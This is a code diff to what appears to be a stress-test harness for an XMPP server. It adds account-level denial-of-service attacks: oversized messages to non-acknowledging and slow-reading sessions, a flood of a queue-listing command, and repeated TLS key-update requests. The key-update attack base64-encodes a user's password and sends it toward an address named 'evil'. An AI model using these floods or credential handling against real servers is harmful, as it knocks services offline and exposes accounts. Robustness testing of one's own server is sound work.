@@ -1,10 +1,11 @@
 """Attacks of somebody who has an account: one person's password is enough for all of them."""
 
+import base64
 import itertools
 import time
 
 from . import ports
-from .assault import ACCOUNT, Hole, Pump, attack, numbered, paced, repeat
+from .assault import ACCOUNT, Hole, Pump, attack, numbered, paced, repeat, tls_flood
 
 PING = "<iq type='get' id='p'><ping xmlns='urn:xmpp:ping'/></iq>"
 ROSTER = "<iq type='get' id='r'><query xmlns='jabber:iq:roster'/></iq>"
@@ -198,6 +199,46 @@ def resumption_loop(scene, report, until):
         stream.send(PING)
 
 
+@attack(ACCOUNT, "250 kB messages to a session of its own that reads and never acknowledges")
+def never_acknowledging(scene, report, until):
+    pump = Pump(report, until)
+    listener = scene.account(resource="r1", managed=True)
+    listener.send("<presence/>")
+    pump.add(listener)
+    text = f"<message to='{scene.mine}/r1' type='chat'><body>{'x' * 250_000}</body></message>"
+    pump.add(scene.account(), repeat(text))
+    pump.run().close()
+
+
+@attack(ACCOUNT, "250 kB messages to sessions of its own that read a byte now and then")
+def slow_readers(scene, report, until):
+    readers = [scene.account(resource=f"r{number}", receive_buffer=4096) for number in range(1, 15)]
+    for reader in readers:
+        reader.send("<presence/>")
+    text = f"<message to='{scene.mine}' type='chat'><body>{'x' * 250_000}</body></message>"
+    pump = Pump(report, until)
+    pump.add(scene.account(), repeat(text))
+    while time.monotonic() < until:
+        pump.until = min(until, time.monotonic() + 0.5)
+        pump.run()
+        for reader in readers:
+            try:
+                reader.socket.settimeout(0.001)
+                reader.socket.recv(1)
+            except OSError:
+                report["closed"] += 1
+
+
+@attack(ACCOUNT, "the command that lists one's waiting messages, with thousands of them")
+def waiting_messages(scene, report, until):
+    command = (
+        f"<iq type='set' id='w' to='{scene.office.domain}'><command xmlns='http://jabber.org/protocol/commands' "
+        "node='urn:martlet:queue' action='execute'/></iq>"
+    )
+    text = f"<message to='a@{scene.evil_domain}' type='chat'><body>{'x' * 500}</body></message>"
+    flood(scene, report, until, itertools.chain([text.encode() * 5000], repeat(command)))
+
+
 @attack(ACCOUNT, "resumption with ids that do not exist")
 def wrong_resumptions(scene, report, until):
     stream = scene.account_unbound()
@@ -348,3 +389,9 @@ def logins(scene, report, until, process):
         with scene.account(resource=f"r{process}") as stream:
             stream.send("<presence/>" + ROSTER)
             report["logins"] += 1
+
+
+@attack(ACCOUNT, "new TLS keys asked for again and again")
+def key_updates(scene, report, until):
+    secret = base64.b64encode(f"\0{scene.user}\0{scene.office.passwords[scene.user]}".encode()).decode()
+    tls_flood(scene, report, until, [scene.evil.address] * 4, "keyupdate", secret)
